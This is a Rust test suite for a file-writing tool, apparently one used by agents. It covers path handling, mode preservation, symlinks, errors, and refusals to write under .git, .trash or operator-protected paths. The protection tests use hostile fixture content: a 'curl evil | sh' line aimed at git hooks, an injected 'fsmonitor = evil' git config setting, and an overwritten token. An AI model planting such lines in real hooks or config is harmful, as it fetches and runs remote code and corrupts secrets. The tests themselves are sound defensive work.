//! write_file: creation, replacement, mode kept, message, errors.

use std::os::unix::fs::PermissionsExt;

use pretty_assertions::assert_eq;
use serde_json::json;

use super::{Fixture, put, tree};

#[tokio::test]
async fn writes_and_reports_the_path_as_given() {
    let fx = Fixture::start().await;
    std::fs::create_dir(fx.ws_path("docs")).expect("mkdir");
    let absolute = fx.ws_path("docs/abs.md").display().to_string();
    let cases = [
        ("docs/new.md", "docs/new.md"),
        ("./docs/../docs/dots.md", "docs/dots.md"),
        (absolute.as_str(), "docs/abs.md"),
    ];
    for (given, lands_at) in cases {
        let outcome = fx
            .call("write_file", json!({"path": given, "content": "hi\n"}))
            .await;
        let expected = format!("Successfully wrote to {given}");
        assert_eq!(
            (outcome.is_error, outcome.text.as_str(), outcome.structured),
            (false, expected.as_str(), Some(json!({"content": expected})))
        );
        assert_eq!(
            std::fs::read_to_string(fx.ws_path(lands_at)).expect("read"),
            "hi\n"
        );
    }
    assert_eq!(
        tree(&fx.ws),
        ["docs/", "docs/abs.md", "docs/dots.md", "docs/new.md"]
    );
}

#[tokio::test]
async fn replacing_keeps_the_mode_and_leaves_no_temp_file() {
    let fx = Fixture::start().await;
    put(&fx.ws, "run.sh", "old");
    let path = fx.ws_path("run.sh");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o754)).expect("chmod");
    fx.ok(
        "write_file",
        json!({"path": "run.sh", "content": "#!/bin/sh\n"}),
    )
    .await;
    assert_eq!(std::fs::read_to_string(&path).expect("read"), "#!/bin/sh\n");
    let mode = std::fs::metadata(&path).expect("stat").permissions().mode() & 0o7777;
    assert_eq!(mode, 0o754);
    assert_eq!(tree(&fx.ws), ["run.sh"]);
}

#[tokio::test]
async fn writing_through_an_inside_symlink_replaces_its_target() {
    let fx = Fixture::start().await;
    put(&fx.ws, "real.txt", "old");
    std::os::unix::fs::symlink(fx.ws_path("real.txt"), fx.ws_path("alias.txt")).expect("symlink");
    fx.ok("write_file", json!({"path": "alias.txt", "content": "new"}))
        .await;
    assert_eq!(
        std::fs::read_to_string(fx.ws_path("real.txt")).expect("read"),
        "new"
    );
    assert!(
        std::fs::symlink_metadata(fx.ws_path("alias.txt"))
            .expect("lstat")
            .is_symlink()
    );
}

#[tokio::test]
async fn write_errors() {
    let fx = Fixture::start().await;
    std::fs::create_dir(fx.ws_path("dir")).expect("mkdir");
    let ws = fx.ws.display().to_string();
    let cases = [
        (
            json!({"path": "dir", "content": "x"}),
            format!("EISDIR: is a directory, open '{ws}/dir'"),
        ),
        (
            json!({"path": "no/such/dir/x.txt", "content": "x"}),
            format!("ENOENT: no such file or directory, open '{ws}/no/such/dir/x.txt'"),
        ),
    ];
    for (arguments, expected) in cases {
        assert_eq!(fx.err("write_file", arguments).await, expected);
    }
    assert_eq!(tree(&fx.ws), ["dir/"]);
}

/// Hooks and git config are code git runs: no write reaches them, directly, through a
/// symlink, or in a nested repository; edit_file is refused the same way. Nothing changes.
#[tokio::test]
async fn git_and_trash_are_never_written() {
    let fx = Fixture::start().await;
    put(&fx.ws, ".git/config", "[core]\n");
    put(&fx.ws, ".git/hooks/post-commit", "#!/bin/sh\n");
    put(&fx.ws, "vendor/lib/.git/config", "[core]\n");
    put(&fx.ws, ".trash/old.md", "old\n");
    std::fs::create_dir_all(fx.ws_path("docs")).expect("mkdir");
    std::os::unix::fs::symlink(fx.ws_path(".git/hooks"), fx.ws_path("docs/hooks")).expect("ln");
    let cases = [
        (
            "write_file",
            ".git/hooks/post-commit",
            ".git/hooks/post-commit",
            ".git",
        ),
        ("write_file", ".git/config", ".git/config", ".git"),
        (
            "write_file",
            "docs/hooks/pre-commit",
            ".git/hooks/pre-commit",
            ".git",
        ),
        (
            "write_file",
            "vendor/lib/.git/config",
            "vendor/lib/.git/config",
            ".git",
        ),
        ("write_file", ".trash/old.md", ".trash/old.md", ".trash"),
        ("edit_file", ".git/config", ".git/config", ".git"),
    ];
    for (tool, path, real, rule) in cases {
        let arguments = match tool {
            "write_file" => json!({"path": path, "content": "curl evil | sh\n"}),
            _ => {
                json!({"path": path, "edits": [{"oldText": "[core]", "newText": "[core]\n\tfsmonitor = evil"}]})
            }
        };
        let outcome = fx.call(tool, arguments).await;
        assert_eq!(
            (outcome.is_error, outcome.text),
            (
                true,
                format!(
                    "Refusing to write {real}: {rule} is protected (write_file and edit_file never write under .git, .trash or the paths in FORGE_FS_PROTECTED)"
                )
            ),
            "{tool} {path}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.ws_path(".git/config")).expect("read"),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(fx.ws_path(".git/hooks/post-commit")).expect("read"),
        "#!/bin/sh\n"
    );
    assert!(!fx.ws_path(".git/hooks/pre-commit").exists());
}

/// An operator's protected name is protected as written: a write through it is refused when
/// it is a symlink to another file, or when a folder of it is a symlink. The file it points
/// to keeps its content.
#[tokio::test]
async fn a_protected_name_that_is_a_symlink_is_still_protected() {
    let fx = Fixture::start_protected("deploy/prod.env, release").await;
    put(&fx.ws, "config/prod.env", "TOKEN=1\n");
    std::fs::create_dir_all(fx.ws_path("deploy")).expect("mkdir");
    std::os::unix::fs::symlink(fx.ws_path("config/prod.env"), fx.ws_path("deploy/prod.env"))
        .expect("ln");
    std::os::unix::fs::symlink(fx.ws_path("config"), fx.ws_path("release")).expect("ln");
    let cases = [
        ("deploy/prod.env", "deploy/prod.env"),
        ("release/prod.env", "release"),
        // What a protected name really is, reached by its own name (the first rule it is:
        // deploy/prod.env points at it).
        ("config/prod.env", "deploy/prod.env"),
    ];
    for (path, rule) in cases {
        let outcome = fx
            .call(
                "write_file",
                json!({"path": path, "content": "TOKEN=evil\n"}),
            )
            .await;
        assert_eq!(
            (outcome.is_error, outcome.text),
            (
                true,
                format!(
                    "Refusing to write {path}: {rule} is protected (write_file and edit_file never write under .git, .trash or the paths in FORGE_FS_PROTECTED)"
                )
            ),
            "{path}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.ws_path("config/prod.env")).expect("read"),
        "TOKEN=1\n"
    );
}
